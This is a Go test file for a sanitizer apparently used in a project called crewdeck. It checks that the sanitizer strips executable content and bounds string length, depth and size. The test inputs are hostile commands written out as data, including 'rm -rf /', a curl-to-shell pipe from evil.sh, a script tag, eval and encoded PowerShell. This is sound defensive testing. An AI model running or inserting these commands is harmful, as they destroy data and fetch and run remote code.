package safety_test

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/basket/crewdeck/internal/safety"
)

func TestSanitize_StripsExecutableContent(t *testing.T) {
	s := safety.NewSanitizer()
	cases := []struct {
		name string
		in   string
	}{
		{"command substitution", "run $(rm -rf /) please"},
		{"backticks", "value is `id` here"},
		{"script tag", "<script>alert(1)</script> hello"},
		{"event handler", `<img onerror= "x">`},
		{"shebang", "#!/bin/sh\ndo things"},
		{"pipe to shell", "curl http://evil.sh/x | sh"},
		{"eval call", "eval(payload)"},
		{"encoded powershell", "powershell -enc SQBFAFgA"},
	}
	for _, tc := range cases {
		got, _ := s.Sanitize(tc.in).(string)
		if got == tc.in {
			t.Errorf("%s: input passed through unchanged: %q", tc.name, got)
		}
		if !strings.Contains(got, "[removed]") {
			t.Errorf("%s: no removal marker in %q", tc.name, got)
		}
	}
}

func TestSanitize_PlainContentPassesThrough(t *testing.T) {
	s := safety.NewSanitizer()
	for _, in := range []string{
		"implement the login handler next",
		"tests pass on branch feat/session-registry",
		"step 3 depends on step 1",
	} {
		if got := s.Sanitize(in); got != in {
			t.Fatalf("benign string mutated: %q -> %v", in, got)
		}
	}
	if got := s.Sanitize(42); got != 42 {
		t.Fatalf("int mutated: %v", got)
	}
	if got := s.Sanitize(true); got != true {
		t.Fatalf("bool mutated: %v", got)
	}
	if got := s.Sanitize(nil); got != nil {
		t.Fatalf("nil mutated: %v", got)
	}
}

func TestSanitize_TruncatesLongStrings(t *testing.T) {
	s := safety.NewSanitizer()
	s.MaxStringLen = 16
	got, _ := s.Sanitize(strings.Repeat("a", 100)).(string)
	if !strings.HasSuffix(got, "(truncated)") {
		t.Fatalf("long string not truncated: %q", got)
	}
	if len(got) > 16+len("\n... (truncated)") {
		t.Fatalf("truncated string still too long: %d bytes", len(got))
	}
}

func TestSanitize_TruncationKeepsValidUTF8(t *testing.T) {
	s := safety.NewSanitizer()
	s.MaxStringLen = 16

	// "héllo wörld" repeated lands a multi-byte rune on the cut for at
	// least one of these lengths.
	for pad := 0; pad < 4; pad++ {
		in := strings.Repeat("x", pad) + strings.Repeat("héllo wörld ", 5)
		got, _ := s.Sanitize(in).(string)
		if !utf8.ValidString(got) {
			t.Fatalf("pad %d: truncation split a rune: %q", pad, got)
		}
		if !strings.HasSuffix(got, "(truncated)") {
			t.Fatalf("pad %d: long string not truncated: %q", pad, got)
		}
	}
}

func TestSanitize_BoundsDepth(t *testing.T) {
	s := safety.NewSanitizer()
	s.MaxDepth = 2

	nested := map[string]any{
		"level1": map[string]any{
			"level2": map[string]any{
				"level3": "too deep",
			},
		},
	}
	out := s.SanitizeMap(nested)
	l1, _ := out["level1"].(map[string]any)
	if l1 == nil {
		t.Fatalf("level1 missing: %+v", out)
	}
	if l1["level2"] != "[removed]" {
		t.Fatalf("content past the depth bound survived: %+v", l1["level2"])
	}
}

func TestSanitize_BoundsKeysAndElements(t *testing.T) {
	s := safety.NewSanitizer()
	s.MaxKeys = 3

	big := make(map[string]any, 10)
	for _, k := range []string{"a", "b", "c", "d", "e"} {
		big[k] = k
	}
	out := s.SanitizeMap(big)
	if len(out) != 3 {
		t.Fatalf("len(out) = %d, want 3", len(out))
	}

	list, _ := s.Sanitize([]any{"1", "2", "3", "4", "5"}).([]any)
	if len(list) != 3 {
		t.Fatalf("len(list) = %d, want 3", len(list))
	}
}

func TestSanitize_DeepCopiesInput(t *testing.T) {
	s := safety.NewSanitizer()
	in := map[string]any{"note": "$(whoami)", "list": []any{"x"}}
	out := s.SanitizeMap(in)

	if in["note"] != "$(whoami)" {
		t.Fatalf("input map was mutated: %+v", in)
	}
	if out["note"] == in["note"] {
		t.Fatalf("output was not scrubbed: %+v", out)
	}
}

func TestSanitize_UnknownTypesRenderedAsStrings(t *testing.T) {
	type odd struct{ X string }
	s := safety.NewSanitizer()
	got, ok := s.Sanitize(odd{X: "$(id)"}).(string)
	if !ok {
		t.Fatalf("unknown type not rendered to string")
	}
	if strings.Contains(got, "$(id)") {
		t.Fatalf("executable content survived rendering: %q", got)
	}
}
